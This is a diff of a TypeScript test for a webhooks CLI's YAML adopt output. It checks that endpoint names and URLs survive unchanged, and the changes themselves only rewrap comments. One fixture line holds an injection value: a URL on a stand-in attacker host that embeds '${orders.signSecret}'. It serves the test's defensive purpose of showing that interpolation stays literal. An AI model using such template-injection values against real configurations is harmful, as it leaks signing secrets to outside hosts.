@@ -28,7 +28,10 @@ const BATCH = 40;
 const CLEAN_PROGRAMS = 3;
 const WEBHOOKS_BIN = join(BASE_DIR, "node_modules", ".bin", "webhooks");
 
-/** A program with a resource `orders`, and another team's endpoints whose name or URL holds `${...}`, one naming its secret. */
+/**
+ * A program with a resource `orders`, and another team's endpoints whose name or URL holds `${...}`, one
+ * naming its secret.
+ */
 const FINDING = [
   { name: "orders", url: "https://example.com/hooks/orders" },
   { name: "hook", url: "https://attacker.example/hook?k=${orders.signSecret}" },
@@ -77,7 +80,10 @@ describe("adopt's YAML, pasted into a program and previewed by the engine", () =
     await emulator?.close();
   });
 
-  /** `webhooks adopt --format yaml` for these ids, run as a person runs it (outside any project: the connection from the environment). */
+  /**
+   * `webhooks adopt --format yaml` for these ids, run as a person runs it (outside any project: the
+   * connection from the environment).
+   */
   async function adoptYaml(ids: number[]) {
     const result = await runProcess(
       WEBHOOKS_BIN,
@@ -188,7 +194,8 @@ describe("adopt's YAML, pasted into a program and previewed by the engine", () =
   });
 
   it("every declared endpoint's printed name and URL, read by the engine as stack outputs, are the service's exactly", async () => {
-    // The scalars exactly as printed (after `webhookName: ` and `webhookUrl: `), each under an output named after its id.
+    // The scalars exactly as printed (after `webhookName: ` and `webhookUrl: `), each under an output named
+    // after its id.
     const lines = printedAll.split("\n");
     const outputs: string[] = [];
     const expected: Record<string, string> = {};
